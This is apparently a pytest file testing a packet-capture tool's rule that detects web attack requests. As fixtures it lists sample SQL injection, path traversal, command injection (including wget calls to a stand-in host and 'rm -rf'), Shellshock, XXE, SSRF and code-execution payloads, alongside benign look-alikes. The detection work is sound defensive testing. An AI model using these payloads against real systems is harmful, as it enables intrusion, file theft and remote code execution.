"""WEB002: each kind of request by example, the answer as the evidence; quiet on words that only look alike."""

from __future__ import annotations

from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.builders import drafts, family, files, signatures, tables
from tests.conftest import case_capture, fixture_capture
from tests.rules.access import wire
from tests.rules.access.rows import back, there
from tshark_report.rules.access.web_attack_requests import web_attack_requests

BAD: list[tuple[str, str]] = [
    ("SQL injection", "/i?id=" + quote("' OR '1'='1")),
    ("SQL injection", "/i?id=" + quote("1 or 1=1")),
    ("SQL injection", "/i?id=" + quote("1 UNION/**/SELECT user,pass FROM users--")),
    ("SQL injection", "/i?id=" + quote("1;DROP TABLE items")),
    ("SQL injection", "/i?id=" + quote("1 AND SLEEP(5)")),
    ("SQL injection", "/i?id=" + quote("1'; WAITFOR DELAY '0:0:5'--")),
    ("SQL injection", "/login?u=" + quote("admin'--")),
    ("path traversal", "/../../../../etc/passwd"),
    ("path traversal", "/static/..%2f..%2fetc%2fpasswd"),
    ("path traversal", "/d?f=%2e%2e%2f%2e%2e%2fwindows/win.ini"),
    ("path traversal", "/d?f=/etc/passwd"),
    ("path traversal", "/d?f=php://filter/convert.base64-encode/resource=index"),
    ("command injection", "/ping?host=" + quote("127.0.0.1;cat /etc/passwd")),
    ("command injection", "/ping?host=" + quote("`id`")),
    ("command injection", "/ping?host=" + quote("$(wget http://203.0.113.9/x.sh)")),
    ("command injection", "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/m.sh"),
    ("command injection", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
    ("command injection", "/scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir"),
    ("code execution", "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array"),
    ("code execution", "/?class.module.classLoader.resources.context.parent=x"),
    ("code execution", "/a?x=" + quote("${7*7}")),
    ("server-side request", "/fetch?url=" + quote("http://169.254.169.254/latest/meta-data/")),
]

GOOD = [
    "/search?q=O%27Brien",
    "/search?q=select+a+plan+from+the+list",
    "/search?q=50%25+union+jacks+%26+more",
    "/search?q=drop+table+tennis",
    "/search?q=rock+%27n%27+roll",
    "/search?q=Tom+and+Jerry+%3D+fun",
    "/a;jsessionid=1234?id=5&name=ls",
    "/p?next=../index.html",
    "/p?img=../../pictures/a.png",
    "/ad?js=" + quote('{"a":"b","c":[1,2]}'),
    "/ad?u=" + quote("http://www.example.com/page?x=1&y=2"),
    "/t?langs=en|us|ls",
    "/t?v=a;b;c",
    "/manual/en/function.shell-exec.php",
    "/search?q=shell_exec+manual",
    "/oauth?redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2Fcb",
    "/f?text=it%27s+1+or+2",
    "/track?e=click&id=btn&cmd=show",
]


def asked(uri: str, **answer: Any) -> Any:
    row = there(dst_port=80, method="GET", host="www.shop.example", uri=uri)
    return tables(http=family("http", row, back(src_port=80, request_frame=1, **({"status": 404} | answer))))


@pytest.mark.parametrize(("kind", "uri"), BAD)
def test_each_kind_is_seen(kind: str, uri: str) -> None:
    found = drafts(web_attack_requests, asked(uri))
    assert [d.priority for d in found] == ["medium"]
    assert kind in found[0].summary


@pytest.mark.parametrize("uri", GOOD)
def test_quiet_on_words_that_look_alike(uri: str) -> None:
    assert not drafts(web_attack_requests, asked(uri, status=200))


def test_script_tags_count_from_three() -> None:
    row = there(dst_port=80, method="GET", uri="/s?q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert not drafts(web_attack_requests, tables(http=family("http", row, row)))
    assert [d.priority for d in drafts(web_attack_requests, tables(http=family("http", row, row, row)))] == ["low"]


def test_high_where_the_answer_holds_the_file() -> None:
    made = asked("/d?f=../../../../etc/passwd", status=200)
    held = files({"frame": 2, "head": b"root:x:0:0:root:/root:/bin/bash\n"})
    found = drafts(web_attack_requests, tables(http=made.http, files=held))
    assert [(d.priority, d.confidence) for d in found] == [("high", "high")]
    assert "/etc/passwd" in found[0].summary


def test_high_where_the_database_waited() -> None:
    uri = "/i?id=" + quote("1 AND SLEEP(5)")
    assert drafts(web_attack_requests, asked(uri, status=200, answer_seconds=5.1))[0].priority == "high"
    assert drafts(web_attack_requests, asked(uri, status=200, answer_seconds=0.2))[0].priority == "medium"


def test_shellshock_and_xml_on_the_wire(loaded: Any, tmp_path: Path) -> None:
    shock = wire.http_request(
        "GET", "/cgi-bin/status", headers='User-Agent: () { :;}; /bin/bash -c "cat /etc/passwd"\r\n'
    )
    entity = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    xml = wire.http_request("POST", "/api", headers="Content-Type: application/xml\r\n", body=entity)
    plain = wire.http_request("GET", "/cgi-bin/status")
    path = wire.write(
        tmp_path / "web.pcap",
        [
            *wire.conversation(
                0,
                wire.OUTSIDE,
                wire.SERVER,
                (47000, 80),
                [("c", shock), ("s", wire.http_answer(200, "root:x:0:0:r:/:/s\n"))],
            ),
            *wire.conversation(1, wire.CLIENT, wire.SERVER, (47001, 80), [("c", xml), ("s", wire.http_answer(400))]),
            *wire.conversation(2, wire.CLIENT, wire.SERVER, (47002, 80), [("c", plain), ("s", wire.http_answer(200))]),
        ],
    )
    found = drafts(web_attack_requests, loaded(path).tables)
    assert [(d.priority, len(d.frames)) for d in found] == [("high", 1), ("medium", 1)]
    assert all(wire.exact(path, draft) for draft in found)


def test_on_this_projects_fixtures(loaded: Any) -> None:
    path = fixture_capture("web_attacks")
    found = drafts(web_attack_requests, loaded(path).tables)
    assert [d.hosts for d in found] == [("203.0.113.150", "10.20.0.80")]
    assert wire.exact(path, found[0])
    hostile = fixture_capture("hostile_text")
    assert all(wire.exact(hostile, draft) for draft in drafts(web_attack_requests, loaded(hostile).tables))


@pytest.mark.shared
def test_on_a_published_capture(loaded: Any) -> None:
    path = case_capture("ndpi_nikto_rce")
    found = drafts(web_attack_requests, loaded(path).tables)
    assert "only requests" in found[0].summary
    assert wire.exact(path, found[0])


def test_http2_requests_are_named_by_frame() -> None:
    row = there(dst_port=8080, method="GET", protocol="HTTP2", uri="/d?f=/etc/passwd")
    made = [row | {"uri": f"/d{i}?f=/etc/passwd"} for i in range(13)]
    found = drafts(web_attack_requests, tables(http=family("http", *made)))
    assert found[0].display_filter == "frame.number in {1..13}"
    assert list(found[0].frames) == list(range(1, 14))


def test_the_output_of_a_command_far_into_the_answer() -> None:
    made = asked("/ping?host=" + quote("x;id"), status=200)
    hit = signatures({"frame": 2, "kind": "id-output", "context": b"<pre>uid=33(www-data) gid=33(www-data)</pre>"})
    found = drafts(web_attack_requests, tables(http=made.http, signatures=hit))
    assert (found[0].priority, found[0].confidence) == ("high", "high")


def test_shellshock_in_a_header_that_no_column_holds(loaded: Any, tmp_path: Path) -> None:
    ask = wire.http_request("GET", "/cgi-bin/status", headers="X-Custom: () { :; }; echo; /usr/bin/id\r\n")
    plain = wire.http_request("POST", "/run", headers="X-Custom: 1\r\n", body="var f = function() { return 1; }")
    path = wire.write(
        tmp_path / "shock.pcap",
        [
            *wire.conversation(0, wire.OUTSIDE, wire.SERVER, (46000, 80), [("c", ask), ("s", wire.http_answer(404))]),
            *wire.conversation(1, wire.CLIENT, wire.SERVER, (46001, 80), [("c", plain), ("s", wire.http_answer(200))]),
        ],
    )
    found = drafts(web_attack_requests, loaded(path).tables)
    assert [d.hosts for d in found] == [(wire.OUTSIDE, wire.SERVER)]
    assert "Shellshock" in found[0].summary
    assert wire.exact(path, found[0])
